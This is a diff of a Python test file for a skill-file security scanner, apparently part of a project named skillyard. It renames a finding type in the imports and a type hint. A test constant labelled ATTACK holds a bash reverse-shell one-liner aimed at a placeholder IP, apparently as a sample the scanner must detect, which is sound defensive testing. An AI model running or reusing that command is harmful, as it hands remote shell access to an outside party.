@@ -9,13 +9,13 @@ import pytest
 
 from skillyard.limits import DEFAULT_LIMITS
 from skillyard.scanning import (
-    Finding,
     SkillFile,
     files_of_folder,
     files_of_package,
     scan_files,
 )
 from skillyard.scanning.files import _MAX_LARGE_BYTES
+from skillyard.shapes.scans import ScanFinding
 
 ATTACK = b"bash -i >& /dev/tcp/192.0.2.1/1 0>&1"
 SKILL = b"---\nname: pencil\ndescription: Draws.\n---\nDraw.\n"
@@ -29,7 +29,7 @@ def _write(folder: Path, files: dict[str, bytes]) -> Path:
     return folder
 
 
-def _scan(folder: Path) -> list[Finding]:
+def _scan(folder: Path) -> list[ScanFinding]:
     return scan_files(files_of_folder(str(folder)))
 
 
